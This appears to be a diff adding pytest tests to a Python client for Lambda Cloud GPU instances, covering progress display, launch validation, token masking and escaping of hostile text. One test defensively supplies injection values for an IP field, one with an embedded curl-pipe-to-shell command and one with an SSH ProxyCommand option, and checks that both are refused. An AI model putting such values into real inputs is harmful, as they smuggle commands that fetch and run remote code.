@@ -2,11 +2,16 @@
 
 from __future__ import annotations
 
+import copy
 import io
+import operator
+import pickle
 import re
 from collections.abc import Iterator
+from pathlib import Path
 from typing import Any
 
+import attrs
 import pytest
 import responses
 from IPython.lib.pretty import pretty
@@ -368,6 +373,61 @@ class TestProgress:
         assert "20 s" in markup
         assert "trainer" in markup
 
+    def test_a_hostile_name_or_status_in_the_progress_line_stays_text(self) -> None:
+        instance = hostile_instance(status=HOSTILE, name="\x1b[2J" + HOSTILE)
+        line = _progress._Line(WaitProgress((instance,), HOSTILE, 1.0, 1))
+        markup = line._repr_html_()
+        assert_safe_html(markup)
+        assert "&lt;script&gt;" in markup
+        assert "\x1b" not in markup
+        assert "\x1b" not in repr(line)
+        stream = io.StringIO()
+        _progress.TerminalProgress(stream)(WaitProgress((instance,), "active", 1.0, 1))
+        assert "\x1b" not in stream.getvalue()
+
+    def test_a_failed_wait_says_so_in_both_modes(self) -> None:
+        (state,) = progress_states("booting")
+        error = lambdacloud.WaitTimeoutError("gave up", instances=[])
+        stream = io.StringIO()
+        terminal = _progress.TerminalProgress(stream)
+        terminal(state)
+        terminal.stopped(error)
+        assert (
+            stream.getvalue()
+            .splitlines()[-1]
+            .startswith("Stopped (WaitTimeoutError) waiting for active: trainer")
+        )
+        updated: list[Any] = []
+
+        class Handle:
+            def update(self, line: Any) -> None:
+                updated.append(line)
+
+        notebook = _progress.NotebookProgress(lambda line, display_id: Handle())
+        notebook(state)
+        notebook.stopped(error)
+        assert "Stopped (WaitTimeoutError) waiting for" in updated[-1]._repr_html_()
+
+    def test_waits_show_progress_unless_told_not_to(
+        self, monkeypatch: pytest.MonkeyPatch, mocked: responses.RequestsMock
+    ) -> None:
+        asked: list[Any] = []
+        choose = _progress.reporter
+
+        def recording(progress: Any) -> Any:
+            asked.append(progress)
+            return choose(progress)
+
+        monkeypatch.setattr(_progress, "reporter", recording)
+        mocked.get(f"{API}/instances/i", json={"data": instance_data(id="i")})
+        mocked.assert_all_requests_are_fired = False
+        client = Client(api_key=API_KEY)
+        client.instances.wait_until_active("i")
+        client.instances.wait_for_status("i", "active")
+        client.instances.get("i").wait_until_active()
+        client.instances.wait_until_active("i", progress=False)
+        assert asked == [True, True, True, False]
+
     def test_the_display_is_chosen_by_where_the_code_runs(
         self, monkeypatch: pytest.MonkeyPatch
     ) -> None:
@@ -432,6 +492,22 @@ class TestLaunchAndWait:
         (instance_id,) = raised.value.instance_ids
         assert client.instances.get(instance_id).status in ("terminating", "terminated")
 
+    def test_an_interrupted_wait_terminates_the_instance_and_goes_on_interrupting(
+        self, cloud: FakeLambdaCloud
+    ) -> None:
+        client = cloud.client()
+        client.ssh_keys.create("me")
+
+        def interrupt(state: WaitProgress) -> None:
+            raise KeyboardInterrupt
+
+        with pytest.raises(KeyboardInterrupt):
+            client.instances.launch(
+                "gpu_1x_a10", ssh_key="me", region="us-west-1", wait=True, progress=interrupt
+            )
+        (instance,) = client.instances.list()
+        assert instance.status in ("terminating", "terminated")
+
     def test_a_bad_wait_timeout_is_refused_before_launching(self, cloud: FakeLambdaCloud) -> None:
         client = cloud.client()
         with pytest.raises(ValidationError, match="wait_timeout"):
@@ -440,4 +516,157 @@ class TestLaunchAndWait:
             )
         with pytest.raises(ValidationError, match="wait"):
             client.instances.launch("gpu_1x_a10", ssh_key="me", wait="yes")  # type: ignore[arg-type]
+        # checked even when there is no wait: a mistake is a mistake
+        with pytest.raises(ValidationError, match="wait_timeout"):
+            client.instances.launch("gpu_1x_a10", ssh_key="me", wait_timeout=-1)
+        with pytest.raises(ValidationError, match="progress"):
+            client.instances.launch("gpu_1x_a10", ssh_key="me", progress="yes")  # type: ignore[arg-type]
         assert cloud.count("POST", "/instance-operations/launch") == 0
+
+
+def hostile_copy(obj: Any, seen: int = 0) -> Any:
+    """``obj`` with a hostile text in every string field, nested objects included."""
+    if seen > 4:
+        return obj
+    if isinstance(obj, list):
+        return [hostile_copy(item, seen + 1) for item in obj]
+    if isinstance(obj, tuple):
+        return tuple(hostile_copy(item, seen + 1) for item in obj)
+    if not attrs.has(type(obj)):
+        return obj
+    copied = copy.copy(obj)
+    for field in attrs.fields(type(obj)):
+        if field.name.startswith("_") or field.metadata.get(_display.SECRET):
+            continue
+        value = getattr(obj, field.name)
+        if isinstance(value, str):
+            value = f"{HOSTILE}\x1b[31m\r{field.name}"
+        elif isinstance(value, dict):
+            value = {HOSTILE: HOSTILE}
+        else:
+            value = hostile_copy(value, seen + 1)
+        object.__setattr__(copied, field.name, value)  # past validators and frozenness
+    return copied
+
+
+def nested_values(obj: Any) -> list[Any]:
+    found = []
+    for field in attrs.fields(type(obj)):
+        value = getattr(obj, field.name)
+        for item in value if isinstance(value, (list, tuple)) else [value]:
+            if isinstance(item, _display.Displayable):
+                found += [item, *nested_values(item)]
+    return found
+
+
+NESTED = {type(v).__name__: v for sample in SAMPLES.values() for v in nested_values(sample)}
+
+
+@pytest.mark.parametrize("name", sorted(SAMPLES))
+def test_hostile_text_in_any_field_stays_text(name: str) -> None:
+    hostile = hostile_copy(SAMPLES[name])
+    texts = [
+        field.name
+        for field in attrs.fields(type(hostile))
+        if isinstance(getattr(hostile, field.name), str)
+        and not field.metadata.get("lambdacloud.secret")
+    ]
+    for markup in (hostile._repr_html_(), ResourceList([hostile])._repr_html_()):
+        assert_safe_html(markup)
+        assert "&lt;script&gt;" in markup or not texts
+        assert "\x1b" not in markup
+        assert "\r" not in markup
+    for text in (pretty(hostile), pretty(ResourceList([hostile]))):
+        assert "\x1b" not in text
+        assert "\r" not in text
+
+
+@pytest.mark.parametrize("name", sorted(NESTED))
+def test_nested_values_render_on_their_own(name: str) -> None:
+    value = NESTED[name]
+    assert_safe_html(value._repr_html_())
+    assert pretty(value).splitlines()[0].startswith(_display._words(name))
+    assert value._display_label()
+    assert isinstance(value.to_dict(), dict)
+
+
+def test_every_public_model_is_displayable() -> None:
+    models = {
+        name
+        for name in lambdacloud.__all__
+        if isinstance(cls := getattr(lambdacloud, name), type) and attrs.has(cls)
+    }
+    assert models
+    assert models <= displayable_public_classes()
+    assert {"User", "ActionAvailability", "InstanceTypeSpecs", "WaitProgress"} <= models
+    assert {"ActionAvailability", "InstanceImage", "User", "TicketComment"} <= set(NESTED)
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://user:{token}@host.example/lab",
+        "https://{token}@host.example/lab",
+        "https://host.example/token/{token}/lab",
+        "https://host.example/lab;token={token}",
+        "https://host.example/lab#token={token}",
+        "https://host.example/lab?token={token}",
+    ],
+)
+def test_the_token_is_masked_wherever_the_url_carries_it(url: str) -> None:
+    instance = hostile_instance(jupyter_url=url.format(token=TOKEN), hostname=f"h-{TOKEN}")
+    shown = [
+        instance._repr_html_(),
+        pretty(instance),
+        str(instance.to_dict()),
+        str(ResourceList([instance]).to_dicts()),
+        ResourceList([instance])._repr_html_(),
+    ]
+    for text in shown:
+        assert TOKEN not in text
+    assert "host.example" in instance._repr_html_()
+    assert "user" not in str(instance.to_dict()["jupyter_url"])
+
+
+def test_lists_stay_resource_lists_and_survive_copies() -> None:
+    region = SAMPLES["Region"]
+    regions = ResourceList([region], Region)
+    # The operators themselves are under test: no unpacking here.
+    added, radded = operator.add(regions, [region]), operator.add([region], regions)
+    for made in (regions.copy(), added, radded, regions * 2, 2 * regions):
+        assert isinstance(made, ResourceList)
+        assert made._kind is Region
+    assert added == [region, region]
+    assert radded == [region, region]
+    restored = pickle.loads(pickle.dumps(regions))
+    assert restored == regions
+    assert restored._kind is Region
+
+
+def test_to_dicts_edge_cases() -> None:
+    assert ResourceList([1, {"a": 1}]).to_dicts() == [{"value": 1}, {"a": 1}]
+    rows = ResourceList([hostile_instance(tags=[]), hostile_instance()]).to_dicts()
+    assert "tags" not in rows[0]  # an empty mapping adds no column
+    assert rows[1]["tags.team"] == "<b>ml</b>"
+    clash = ResourceList([{"a": {"b.c": 1}, "a.b": {"c": 2}}]).to_dicts()
+    assert clash == [{"a.b.c": 1, "a.b": {"c": 2}}]  # the second stays nested: nothing lost
+
+
+def test_one_item_is_counted_in_the_singular() -> None:
+    assert "<caption>1 instance</caption>" in ResourceList([hostile_instance()])._repr_html_()
+    assert "<caption>2 SSH keys</caption>" in (ResourceList([SAMPLES["SSHKey"]] * 2)._repr_html_())
+
+
+def test_a_status_badge_is_themed_through_css_variables() -> None:
+    markup = ResourceList([hostile_instance()])._repr_html_()
+    assert "background: var(--lc-good)" in markup
+    assert "--lc-good:" in markup
+
+
+def test_an_unusable_ip_never_reaches_the_command() -> None:
+    for ip in ("1.2.3.4 $(curl evil|sh)", "-oProxyCommand=touch /tmp/x"):
+        with pytest.raises(lambdacloud.MalformedResponseError):
+            hostile_instance(ip=ip).ssh_command()
+    assert hostile_instance(ip="2001:db8::1").ssh_command() == "ssh ubuntu@2001:db8::1"
+    path = Path("/keys/my key")
+    assert hostile_instance().ssh_command(identity_file=path).startswith("ssh -i '/keys/my key' ")
